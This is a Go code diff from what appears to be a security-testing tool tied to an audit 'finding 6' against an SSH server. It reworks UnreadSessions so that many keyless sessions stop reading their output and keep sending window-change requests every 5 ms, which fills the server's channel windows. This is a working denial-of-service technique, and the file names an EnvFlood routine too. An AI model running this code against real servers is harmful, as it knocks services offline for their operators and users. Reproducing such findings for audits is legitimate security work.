@@ -24,7 +24,7 @@ func ResizeBurst(ctx context.Context, t Target, n int) error {
 	if err != nil {
 		return err
 	}
-	if err := startUnread(sess, 250, 80, t.wait()); err != nil {
+	if err := startUnread(sess, 250, 80, "", t.wait()); err != nil {
 		return err
 	}
 	// A server that stops reading the connection must not hold the burst
@@ -137,17 +137,14 @@ func EnvFlood(ctx context.Context, t Target, sessions, requests, size int) (*Hel
 }
 
 // UnreadSessions is finding 6's second half: n keyless sessions with a
-// window w wide (a server clamps it) that stop reading their output once
-// the post list is drawn. Each
-// then changes its height resizes times, a few milliseconds apart, so that
-// even clamped frames fill the channel window and the session's output
-// cannot drain. The sessions stay open until Close or until the server
-// closes them (see Held.Ended). The changes are paced, not a burst: a
-// server that coalesces window changes still repaints for each, and the
-// repaints, not the requests, are what must fill the window.
-func UnreadSessions(ctx context.Context, t Target, n, w, h, resizes int) (*Held, error) {
+// window w wide (a server clamps it) reading t.Slug that stop reading
+// their output once the post is drawn. Until Close, each keeps changing its height
+// every 5 ms, so that even clamped frames fill the channel window and the
+// session's output cannot drain; a server that coalesces window changes
+// does not repaint for them once it is stuck. The sessions stay open until
+// Close or until the server closes them (see Held.Ended).
+func UnreadSessions(ctx context.Context, t Target, n, w, h int) (*Held, error) {
 	held := &Held{}
-	var sessions []*ssh.Session
 	for range n {
 		client, _, err := dial(ctx, t, nil)
 		if err != nil {
@@ -160,22 +157,29 @@ func UnreadSessions(ctx context.Context, t Target, n, w, h, resizes int) (*Held,
 			held.Refused++
 			continue
 		}
-		if err := startUnread(sess, w, h, t.wait()); err != nil {
+		if err := startUnread(sess, w, h, t.Slug, t.wait()); err != nil {
 			held.Refused++
 			continue
 		}
 		held.Opened++
-		held.watch(sess)
-		sessions = append(sessions, sess)
-	}
-	for i := range resizes {
-		for _, sess := range sessions {
-			// Without a reply: a wedged server would hold a reply forever.
-			_, _ = sess.SendRequest("window-change", false, windowPayload(uint32(w), uint32(h-i%2)))
-		}
-		if err := sleep(ctx, 2*time.Millisecond); err != nil {
-			break
-		}
+		ended := held.watch(sess)
+		go func() {
+			for i := 0; ; i++ {
+				// Without a reply: a wedged server would hold a reply forever.
+				if _, err := sess.SendRequest("window-change", false, windowPayload(uint32(w), uint32(h-i%2))); err != nil {
+					return
+				}
+				select {
+				case <-ctx.Done():
+					return
+				case <-ended:
+					return
+				case <-held.stopped():
+					return
+				case <-time.After(5 * time.Millisecond):
+				}
+			}
+		}()
 	}
 	return held, nil
 }
